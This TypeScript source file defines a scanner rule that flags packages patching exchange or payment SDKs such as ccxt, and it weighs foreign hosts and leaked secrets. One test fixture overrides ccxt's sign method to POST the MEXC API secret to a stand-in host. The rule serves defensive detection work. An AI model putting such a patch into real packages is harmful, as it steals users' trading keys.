import type { Action, Context, Finding, Flow, Inspection, Rule } from '../lib/types.ts'
import { brandInHost } from './brands/brand-in-host.ts'
import type { SdkOverride } from './brands/sdk-override.ts'
import { sdkOverrides } from './brands/sdk-override.ts'
import { whereToVerify } from './brands/where-to-verify.ts'
import type { Contact } from './hosts/contacted.ts'
import { findingAt, findingOfFlow, severityOf, sourceInWords } from './finding.ts'
import { contactsOf, isKeyMaterial } from './hosts/contacted.ts'
import { hostClass, isLocal } from './hosts/host-class.ts'
import { isOwnHost, ownersOfHost } from './hosts/own-host.ts'
import type { Lists } from './lists.ts'

/** A subclass or patch of a known SDK at the place where keys and orders pass. */
export const knownSdkOverride: Rule = {
  meta: {
    id: 'known-sdk-override',
    title: 'Changes how a known SDK signs, addresses or orders',
    severity: 'high',
    description:
      'The package subclasses or patches the SDK of an exchange, wallet or payment service where secrets and orders pass: signing, headers, base addresses, order methods. ' +
      'Honest bots extend an SDK too, so alone it is a note. Together with a host that does not belong to the service it is a question, and with a secret that is sent there a block.',
    references: [
      'ccxt-mexc-futures, April 2025: describe, sign and prepare_request_headers overridden',
      'ethers-provider2, March 2025: https://www.reversinglabs.com/blog/malicious-npm-patch-delivers-reverse-shell',
    ],
    blindSpots: [
      'SDKs that brands.json does not list.',
      'A copy of the SDK inside the package: then nothing is patched.',
      'Members chosen at run time.',
    ],
    examples: {
      flags: [
        {
          title: 'a subclass that also sends the keys elsewhere',
          files: {
            'package.json':
              '{"name":"futures-plus","version":"1.0.0","main":"index.js","dependencies":{"ccxt":"^4.0.0"}}',
            'index.js':
              "const ccxt = require('ccxt')\nccxt.mexc.prototype.sign = function (path) {\n  fetch('https://collect.example/k', { method: 'POST', body: process.env.MEXC_API_SECRET })\n  return { url: path }\n}\n",
          },
          context: { name: 'futures-plus', version: '1.0.0', source: 'registry' },
        },
      ],
      passes: [
        {
          title: 'a bot that subclasses an exchange and adds a method',
          files: {
            'package.json':
              '{"name":"grid-bot","version":"1.0.0","main":"index.js","dependencies":{"ccxt":"^4.0.0"}}',
            'index.js':
              "const ccxt = require('ccxt')\nclass Grid extends ccxt.kraken { levels(n) { return Array.from({ length: n }, (_, i) => i) } }\nmodule.exports = Grid\n",
          },
          context: { name: 'grid-bot', version: '1.0.0', source: 'registry' },
        },
      ],
    },
  },
  check(inspection, context) {
    const overrides = sdkOverrides(inspection, context.name, context.lists)
    const first = overrides[0]
    if (first === undefined) return []
    const contacts = contactsOf(inspection).filter(contact => isForeign(contact, overrides, context))
    const worst = contacts.find(contact => contact.secret !== undefined) ?? contacts[0]
    return [report(overrides, first, worst, judge(worst, inspection, context))]
  },
}

/** A homepage is the author's claim: it does not make a host the service's, it only turns a block into a question. */
function isForeign(contact: Contact, overrides: readonly SdkOverride[], context: Context): boolean {
  const { lists } = context
  if (isLocal(contact.host)) return false
  if (isSuspicious(contact, lists)) return true
  const brands = overrides.flatMap(override => override.brands)
  // A bot tells its owner by way of a chat service: that host belongs to another listed brand.
  return !isOwnHost(contact.host, undefined, brands, lists) && ownersOfHost(contact.host, lists).length === 0
}

function isSuspicious(contact: Contact, lists: Lists): boolean {
  // The brand's bare word under another suffix may be a regional site that the list lacks.
  const borrowed = brandInHost(contact.host, lists)
  return (borrowed?.weight ?? 0) >= 2 || (hostClass(contact.host, lists.hosts)?.weight ?? 0) >= 2
}

/** What the caller hands to the SDK, or a variable named as such services name their keys; not the bot's own password. */
function isOfService(flow: Flow): boolean {
  const { kind, name } = flow.source
  return kind === 'caller-secret' || isKeyMaterial(flow) || /api_?(key|secret)|passphrase/i.test(name)
}

function judge(worst: Contact | undefined, inspection: Inspection, context: Context): Action {
  if (worst === undefined) return 'note'
  const suspicious = isSuspicious(worst, context.lists)
  if (worst.secret === undefined) return suspicious ? 'ask' : 'note'
  if (suspicious) return 'block'
  if (isOwnHost(worst.host, inspection.manifest, [], context.lists)) return 'ask'
  return isOfService(worst.secret) ? 'block' : 'ask'
}

function report(
  overrides: readonly SdkOverride[],
  first: SdkOverride,
  worst: Contact | undefined,
  action: Action,
): Omit<Finding, 'rule'> {
  const members = [...new Set(overrides.map(override => override.member))].slice(0, 5).join(', ')
  const host =
    worst === undefined ? '' : ` and contacts ${worst.host.shown}, which is not a host of that service`
  const secret = worst?.secret
  const sent = secret === undefined ? '' : `, sending it ${sourceInWords(secret.source)}`
  const judged = {
    severity: severityOf(action),
    action,
    message: `It overrides ${members} of ${first.sdk}, through which keys and orders pass${host}${sent}. ${whereToVerify(first.brands)}`,
  }
  return secret === undefined
    ? findingAt(first.fact.at, first.fact.phase, judged)
    : findingOfFlow(secret, judged)
}
